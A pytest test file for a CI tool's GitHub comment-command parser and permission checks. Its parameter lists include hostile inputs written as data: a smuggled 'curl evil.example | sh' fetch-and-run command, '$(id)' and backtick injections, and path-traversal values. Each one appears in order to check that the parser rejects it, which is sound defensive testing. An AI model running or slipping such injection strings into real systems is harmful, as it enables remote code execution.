"""Comments that ask for something: which words count, and whose."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hugflow.ci.comment import CommentEvent, fetch_event, find_command, read_comment, refuse_reader
from hugflow.clients.github import GitHub
from hugflow.errors import NotAuthorised
from hugflow.testing.github import LoopbackGitHub
from tests.testing.githubs import REPO, TOKEN, fill


@pytest.fixture
def github() -> Iterator[LoopbackGitHub]:
    with LoopbackGitHub() as github:
        fill(github)
        yield github


def write(folder: Path, value: Any) -> Path:
    path = folder / "event.json"
    path.write_text(value if isinstance(value, str) else json.dumps(value))
    return path


@pytest.mark.parametrize(
    ("body", "command"),
    [
        ("hugflow retry", "retry"),
        ("hugflow plan  \r\n\nThe Hub was down.", "plan"),
        ("Could you?\nhugflow retry", None),
        ("> hugflow retry", None),
        ("`hugflow retry`", None),
        (" hugflow retry", None),
        ("hugflow  retry", None),
        ("Hugflow retry", None),
        ("hugflow retry acme__speech", None),
        ("hugflow retry; curl evil.example | sh", None),
        ("hugflow retry $(id)", None),
        ("hugflow retry`id`", None),
        ("hugflow retry --force", None),
        ("hugflow retry\x00", None),
        ("hugflow retry\u2028hugflow plan", None),
        ("hugflow plan\vhugflow retry", None),
        ("hugflow remove", None),
        ("\nhugflow retry", None),
        ("", None),
    ],
)
def test_only_the_first_line_counts_and_only_if_it_is_a_command(body: str, command: str | None):
    assert find_command(body) == command


def test_the_event_of_a_comment_is_read(github: LoopbackGitHub, tmp_path: Path):
    event = github.comment_event(REPO, 1, "hugflow plan", author="ana")
    expected = CommentEvent(REPO, 1, "ana", "MEMBER", "plan")
    assert read_comment(write(tmp_path, event)) == expected


def test_what_is_no_new_comment_on_a_pull_request_is_none(github: LoopbackGitHub, tmp_path: Path):
    event = github.comment_event(REPO, 1, "hugflow plan", author="ana")
    issue, comment = event["issue"], event["comment"]
    for other in (
        {**event, "action": "edited"},
        {**event, "issue": {"number": 1}},
        {**event, "issue": {**issue, "number": True}},
        {**event, "issue": {**issue, "number": "1/../../x"}},
        {**event, "repository": {"full_name": "acme/requests/../other"}},
        {**event, "comment": {**comment, "user": {"login": "ana/../bob"}}},
        {**event, "comment": {**comment, "body": None}},
        github.event(REPO, 1),
        [],
        "no JSON",
        "[" * 100_000,
    ):
        assert read_comment(write(tmp_path, other)) is None


@pytest.mark.parametrize(
    ("association", "permission", "why"),
    [
        ("OWNER", "admin", None),
        ("MEMBER", "write", None),
        ("COLLABORATOR", "write", None),
        ("COLLABORATOR", "read", "its permission is read"),
        ("MEMBER", "none", "its permission is none"),
        ("CONTRIBUTOR", "write", "CONTRIBUTOR"),
        ("NONE", "admin", "NONE"),
        ("", "admin", "nothing"),
    ],
)
def test_only_who_may_write_gives_commands(
    github: LoopbackGitHub, association: str, permission: str, why: str | None
):
    github.set_permission(REPO, "eve", permission)
    comment = CommentEvent(REPO, 1, "eve", association, "retry")
    with GitHub(github.api_url, TOKEN) as client:
        if why is None:
            refuse_reader(client, comment)
        else:
            with pytest.raises(NotAuthorised, match="eve may not") as refused:
                refuse_reader(client, comment)
            assert why in refused.value.why


def test_a_silent_github_allows_nothing(github: LoopbackGitHub):
    comment = CommentEvent("acme/unknown", 1, "eve", "MEMBER", "retry")
    with GitHub(github.api_url, TOKEN) as client, pytest.raises(NotAuthorised):
        refuse_reader(client, comment)


def test_the_pull_request_is_asked_for_at_its_present_head(github: LoopbackGitHub):
    head = github.push(REPO, {"requests/add/y.yaml": b"hf_id: a/y\n"}, branch="add-x")
    with GitHub(github.api_url, TOKEN) as client:
        event = fetch_event(client, CommentEvent(REPO, 1, "ana", "MEMBER", "retry"))
    assert (event.head_sha, event.base_ref, event.author) == (head, "main", "ana")
    assert (event.is_fork, event.is_open) == (False, True)
